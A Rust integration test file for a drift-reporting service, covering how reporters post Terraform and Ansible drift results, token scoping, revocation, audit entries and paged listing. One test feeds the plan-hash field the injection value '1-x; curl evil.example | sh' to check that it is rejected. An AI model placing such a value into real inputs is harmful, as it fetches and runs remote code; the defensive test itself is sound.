//! Records of drift: a reporter tells of one and nothing else, and nothing is the same that nobody looked at.

mod room;
mod silence;

use chrono::{TimeDelta, Utc};
use heddle_client::{ClientError, DriftQuery, Http, PageQuery, ReporterClient};
use heddle_core::drift::{Cause, Deviation, DriftState, DriftTool, Found, PlanHash};
use heddle_wire::{
    drift::{DriftItem, DriftLook, ItemDifference, LookTaken, MAX_ITEMS, NotLookedAt},
    view::{CreateReporter, DriftPage, DriftRecordView, ReporterCreated},
};
use secrecy::SecretString;
use uuid::Uuid;

use crate::loom::Loom;

fn request(environment: &str, tool: DriftTool, source: &str) -> CreateReporter {
    CreateReporter {
        name: "nightly".into(),
        repository: "acme/config".parse().unwrap(),
        environment: environment.parse().unwrap(),
        tool,
        source: source.parse().unwrap(),
    }
}

async fn make(loom: &Loom, environment: &str, tool: DriftTool, source: &str) -> (ReporterCreated, ReporterClient) {
    let made = loom.user.create_reporter(loom.organization, &request(environment, tool, source)).await.unwrap();
    let token: SecretString = made.token.expose().to_owned().into();
    let client = ReporterClient::new(Http::new(loom.base.clone(), None).unwrap(), token);
    (made, client)
}

/// A look of `infra/prod` that began so many minutes ago, and took one.
fn look(minutes_ago: i64, items: &[&str]) -> DriftLook {
    let begun_at = Utc::now() - TimeDelta::minutes(minutes_ago);
    let item = |object: &&str| DriftItem {
        object: (*object).into(),
        deviation: Deviation::Changed,
        cause: Cause::Outside,
        reason: None,
        differences: vec![ItemDifference {
            path: "content".into(),
            live: Some("somebody".into()),
            desired: Some("welcome".into()),
        }],
        more: 0,
        by: None,
        at: None,
    };
    DriftLook {
        id: Uuid::new_v4(),
        repository: Some("acme/config".parse().unwrap()),
        environment: "prod".parse().unwrap(),
        tool: DriftTool::Terraform,
        source: "infra/prod".parse().unwrap(),
        commit: None,
        begun_at,
        ended_at: begun_at + TimeDelta::minutes(1),
        program: "tofu".into(),
        version: Some("1.12.6".into()),
        items: items.iter().map(item).collect(),
        more: 0,
        not_looked_at: Vec::new(),
        more_not_looked_at: 0,
        failure: None,
        plan_hash: Some(PlanHash::new(Uuid::from_bytes([7; 16]), &[9; 32])),
    }
}

fn code(told: Result<LookTaken, ClientError>) -> String {
    match told.unwrap_err() {
        ClientError::Problem(problem) => problem.code,
        ClientError::Unauthorized { message } | ClientError::TooLarge { message } => message,
        other => panic!("{other:?}"),
    }
}

async fn list(loom: &Loom) -> DriftPage {
    loom.user.drift(loom.organization, &DriftQuery::default()).await.unwrap()
}

async fn only(loom: &Loom) -> DriftRecordView {
    let mut page = list(loom).await;
    assert_eq!(page.items.len(), 1, "{page:?}");
    page.items.remove(0)
}

#[tokio::test]
async fn what_was_found_is_shown_with_its_history() {
    let loom = Loom::start().await;
    let (made, reporter) = make(&loom, "prod", DriftTool::Terraform, "infra/prod").await;
    assert_eq!(made.command, "heddle diff terraform 'infra/prod' --report prod");
    let row = only(&loom).await;
    assert_eq!((row.state, row.reason.unwrap().as_str()), (DriftState::NotLookedAt, "nobody has looked yet"));

    let taken = reporter.report(&look(30, &[])).await.unwrap();
    assert_eq!((taken.found, taken.record), (Found::Same, made.reporter.record));
    assert!(taken.url.ends_with(&format!("/drift/{}", taken.record)), "{}", taken.url);
    reporter.report(&look(20, &["local_file.motd"])).await.unwrap();
    // Another value at the same place: the same spell, with what is there now.
    let mut again = look(10, &["local_file.motd"]);
    again.items[0].differences[0].live = Some("somebody else".into());
    reporter.report(&again).await.unwrap();

    let row = only(&loom).await;
    assert_eq!((row.state, row.differences, row.looked_by.as_deref()), (DriftState::Differs, 1, Some("nightly")));
    let detail = loom.user.drift_record(loom.organization, taken.record, None).await.unwrap();
    let spells: Vec<_> = detail.history.iter().map(|spell| (spell.found, spell.looks)).collect();
    assert_eq!(spells, [(Found::Differs, 2), (Found::Same, 1)]);
    let shown = detail.shown.unwrap();
    assert_eq!(shown.items, again.items);
    assert_eq!(shown.plan_hash, again.plan_hash);
    assert_eq!(row.since, Some(detail.history[0].first_at), "it differs since it first did");
    let before = loom.user.drift_record(loom.organization, taken.record, Some(detail.history[1].id)).await.unwrap();
    assert!(before.shown.unwrap().items.is_empty());
    let hash = again.plan_hash.as_ref().unwrap().to_string();
    assert!(detail.issue.body.contains(&hash), "{}", detail.issue.body);
    let (then, now) = (&before.issue, &detail.issue);
    assert_eq!((&then.title, &then.body), (&now.title, &now.body), "what is to be done is of the last look");
    let reporters = loom.user.reporters(loom.organization).await.unwrap();
    assert!(reporters[0].reported_at.is_some());
}

#[tokio::test]
async fn a_look_is_told_once_and_an_older_one_never_replaces_a_newer() {
    let loom = Loom::start().await;
    let (made, reporter) = make(&loom, "prod", DriftTool::Terraform, "infra/prod").await;
    let newer = look(10, &[]);
    reporter.report(&newer).await.unwrap();
    assert_eq!(reporter.report(&newer).await.unwrap().found, Found::Same, "sent again, nothing changes");
    assert_eq!(code(reporter.report(&look(20, &["a"])).await), "older-look");
    let detail = loom.user.drift_record(loom.organization, made.reporter.record, None).await.unwrap();
    assert_eq!((detail.history.len(), detail.history[0].looks, detail.record.state), (1, 1, DriftState::Same));
}

#[tokio::test]
async fn no_clock_but_the_apis_says_which_look_is_the_newer_one() {
    let loom = Loom::start().await;
    let (made, reporter) = make(&loom, "prod", DriftTool::Terraform, "infra/prod").await;
    let before = Utc::now();
    let told = reporter.record().await.unwrap();
    assert!(before <= told.now && told.now <= Utc::now(), "{told:?}");
    assert_eq!(
        (told.record, told.name.to_string().as_str()),
        (made.reporter.record, "terraform infra/prod of acme/config in prod")
    );
    // By another clock: it is not guessed how far that is off.
    let ahead = DriftLook { ended_at: Utc::now() + TimeDelta::hours(3), ..look(10, &[]) };
    let told = reporter.report(&ahead).await.unwrap_err().to_string();
    assert!(told.contains("the look ended in 180 min") && told.contains("GET /reporter/v1/record"), "{told}");
    let backwards = look(5, &[]);
    let backwards = DriftLook { ended_at: backwards.begun_at - TimeDelta::minutes(1), ..backwards };
    assert_eq!(code(reporter.report(&backwards).await), "invalid");
    assert_eq!(code(reporter.report(&look(2 * 24 * 60, &[])).await), "invalid");
    // However long an older one is on its way.
    let (older, newer) = (look(9, &["a"]), look(8, &[]));
    reporter.report(&newer).await.unwrap();
    assert_eq!(code(reporter.report(&older).await), "older-look");
    assert_eq!(only(&loom).await.state, DriftState::Same);
}

#[tokio::test]
async fn folders_of_one_name_in_two_repositories_are_two_records() {
    let loom = Loom::start().await;
    let of = |repository: &str| CreateReporter {
        repository: repository.parse().unwrap(),
        ..request("prod", DriftTool::Terraform, "infra/prod")
    };
    let mut clients = Vec::new();
    for repository in ["acme/infra", "acme/network"] {
        let made = loom.user.create_reporter(loom.organization, &of(repository)).await.unwrap();
        let token: SecretString = made.token.expose().to_owned().into();
        clients.push(ReporterClient::new(Http::new(loom.base.clone(), None).unwrap(), token));
    }
    let from = |repository: &str, items: &[&str]| DriftLook {
        repository: Some(repository.parse().unwrap()),
        ..look(10, items)
    };
    clients[0].report(&from("acme/infra", &[])).await.unwrap();
    clients[1].report(&from("acme/network", &["a"])).await.unwrap();
    let told = clients[0].report(&from("acme/network", &["a"])).await.unwrap_err().to_string();
    let words = "this token reports terraform infra/prod of acme/infra in prod, and the look is of terraform infra/prod of \
                 acme/network in prod";
    assert!(told.contains(words), "{told}");
    let nameless = DriftLook { repository: None, ..look(9, &[]) };
    assert!(clients[0].report(&nameless).await.is_err(), "one that names no repository may be of any");
    let rows = list(&loom).await.items;
    let rows: Vec<_> = rows.iter().map(|row| (row.repository.as_ref().map(|name| name.as_str()), row.state)).collect();
    assert_eq!(rows, [(Some("acme/network"), DriftState::Differs), (Some("acme/infra"), DriftState::Same)]);
}

#[tokio::test]
async fn a_token_reports_one_record_and_nothing_else() {
    let loom = Loom::start().await;
    let (made, reporter) = make(&loom, "prod", DriftTool::Terraform, "infra/prod").await;
    let other = |change: &dyn Fn(&mut DriftLook)| {
        let mut look = look(1, &[]);
        change(&mut look);
        look
    };
    for look in [
        other(&|look| look.environment = "staging".parse().unwrap()),
        other(&|look| look.tool = DriftTool::Ansible),
        other(&|look| look.source = "infra/staging".parse().unwrap()),
    ] {
        let told = reporter.report(&look).await.unwrap_err().to_string();
        assert!(
            told.contains("this token reports terraform infra/prod of acme/config in prod, and the look is of"),
            "{told}"
        );
    }
    // It is no key to anything else.
    let http = reqwest::Client::new();
    let drift = loom.base.join(&format!("api/v1/organizations/{}/drift", loom.organization)).unwrap();
    let told = http.get(drift).bearer_auth(made.token.expose()).send().await.unwrap();
    assert_eq!(told.status(), 401);
    let dump = loom.database.dump().await.unwrap();
    assert!(dump.iter().all(|(_, rows)| rows.iter().all(|row| !row.to_string().contains(made.token.expose()))));
}

#[tokio::test]
async fn a_revoked_reporter_is_refused_and_what_it_said_is_marked() {
    let loom = Loom::start().await;
    let (made, reporter) = make(&loom, "prod", DriftTool::Terraform, "infra/prod").await;
    reporter.report(&look(20, &[])).await.unwrap();
    loom.user.revoke_reporter(loom.organization, made.reporter.id).await.unwrap();
    assert_eq!(
        code(reporter.report(&look(10, &[])).await),
        "this reporter was revoked; make another one in the dashboard under Settings"
    );
    let row = only(&loom).await;
    assert!(row.by_revoked);
    let reason = row.reason.unwrap();
    assert_eq!(
        (row.state, reason.as_str()),
        (DriftState::Unknown, "the last look is by a revoked reporter; it was the same then")
    );
    let detail = loom.user.drift_record(loom.organization, made.reporter.record, None).await.unwrap();
    assert_eq!(detail.shown.unwrap().plan_hash, None, "nobody is told to apply what it said");
    let again = loom.user.revoke_reporter(loom.organization, made.reporter.id).await.unwrap_err();
    assert_eq!(again.code(), Some("not-found"));
    // Another one looks anew; the mark stays at what the first one said, also when it is forgotten.
    let (_, second) = make(&loom, "prod", DriftTool::Terraform, "infra/prod").await;
    second.report(&look(5, &[])).await.unwrap();
    let mut owner = loom.owner().await;
    sqlx::query("delete from reporters where revoked_at is not null").execute(&mut owner).await.unwrap();
    let detail = loom.user.drift_record(loom.organization, made.reporter.record, None).await.unwrap();
    let marks: Vec<bool> = detail.history.iter().map(|spell| spell.by_revoked).collect();
    assert_eq!((detail.record.state, marks), (DriftState::Same, vec![false, true]));
    let audit = loom.user.audit(loom.organization, &PageQuery::default()).await.unwrap();
    let actions: Vec<&str> = audit.items.iter().map(|entry| entry.action.as_str()).collect();
    assert_eq!(actions, ["reporter.create", "reporter.revoke", "reporter.create"]);
    assert_eq!(audit.items[2].details["source"], "infra/prod");
}

#[tokio::test]
async fn a_hash_of_a_plan_is_one_and_of_terraform() {
    let loom = Loom::start().await;
    let (made, _) = make(&loom, "prod", DriftTool::Terraform, "infra/prod").await;
    let looks = loom.base.join("reporter/v1/looks").unwrap();
    let mut evil = serde_json::to_value(look(1, &[])).unwrap();
    evil["plan_hash"] = "1-x; curl evil.example | sh".into();
    let told = reqwest::Client::new().post(looks).bearer_auth(made.token.expose()).json(&evil).send().await.unwrap();
    assert_eq!(told.status(), 422);
    assert!(told.text().await.unwrap().contains("a plan hash is what `heddle diff terraform` prints"));
    let (dashed, _) = make(&loom, "prod", DriftTool::Terraform, "-x").await;
    assert_eq!(dashed.command, "heddle diff terraform './-x' --report prod");
    let (_, ansible) = make(&loom, "prod", DriftTool::Ansible, "site.yml").await;
    let playbook = DriftLook { tool: DriftTool::Ansible, source: "site.yml".parse().unwrap(), ..look(1, &[]) };
    assert_eq!(code(ansible.report(&playbook).await), "invalid");
    ansible.report(&DriftLook { plan_hash: None, ..playbook }).await.unwrap();
}

#[tokio::test]
async fn a_look_that_is_not_whole_is_never_the_same() {
    let loom = Loom::start().await;
    let (_, reporter) = make(&loom, "prod", DriftTool::Terraform, "infra/prod").await;
    let missed = NotLookedAt { object: "home: Ring".into(), reason: "it cannot be reached".into() };
    let partly = DriftLook { not_looked_at: vec![missed], more_not_looked_at: 2, ..look(20, &[]) };
    reporter.report(&partly).await.unwrap();
    let row = only(&loom).await;
    let reason = "home: Ring was not looked at: it cannot be reached; and 2 more";
    assert_eq!((row.state, row.reason.unwrap().as_str()), (DriftState::Unknown, reason));
    reporter
        .report(&DriftLook { failure: Some("`tofu` took longer than 15 min".into()), ..look(10, &[]) })
        .await
        .unwrap();
    let row = only(&loom).await;
    assert_eq!((row.state, row.reason.unwrap().as_str()), (DriftState::Unknown, "`tofu` took longer than 15 min"));
    let many: Vec<String> = (0..=MAX_ITEMS).map(|number| format!("thing.{number}")).collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    assert!(code(reporter.report(&look(5, &many)).await).contains("at most 1000 things that differ"));
    reporter.report(&look(5, &many).fit(1 << 20)).await.unwrap();
    assert_eq!(only(&loom).await.differences, 1001);
}

#[tokio::test]
async fn the_list_comes_in_pages_with_what_differs_first() {
    let loom = Loom::start().await;
    for number in 0..5 {
        let (_, reporter) = make(&loom, "prod", DriftTool::Terraform, &format!("infra/{number}")).await;
        let items: &[&str] = if number % 2 == 0 { &[] } else { &["a"] };
        let look = DriftLook { source: format!("infra/{number}").parse().unwrap(), ..look(10, items) };
        reporter.report(&look).await.unwrap();
    }
    make(&loom, "staging", DriftTool::Ansible, "site.yml").await;
    let mut query = DriftQuery { page: PageQuery { limit: Some(2), ..PageQuery::default() }, ..DriftQuery::default() };
    let mut seen = Vec::new();
    loop {
        let page = loom.user.drift(loom.organization, &query).await.unwrap();
        assert_eq!((page.counts.differs, page.counts.same, page.counts.not_looked_at), (2, 3, 1));
        seen.extend(page.items.into_iter().map(|row| row.source));
        query.page.after = page.next;
        if query.page.after.is_none() {
            break;
        }
    }
    assert_eq!(seen, ["infra/1", "infra/3", "site.yml", "infra/0", "infra/2", "infra/4"]);
    let differs = DriftQuery { state: Some(DriftState::Differs), ..DriftQuery::default() };
    assert_eq!(loom.user.drift(loom.organization, &differs).await.unwrap().items.len(), 2);
    let staging = PageQuery { environment: Some("staging".parse().unwrap()), ..PageQuery::default() };
    let staging = DriftQuery { page: staging, ..DriftQuery::default() };
    let page = loom.user.drift(loom.organization, &staging).await.unwrap();
    assert_eq!((page.items.len(), page.counts.differs), (1, 0));
    let broken =
        DriftQuery { page: PageQuery { after: Some("x".into()), ..PageQuery::default() }, ..DriftQuery::default() };
    assert!(loom.user.drift(loom.organization, &broken).await.is_err());
}
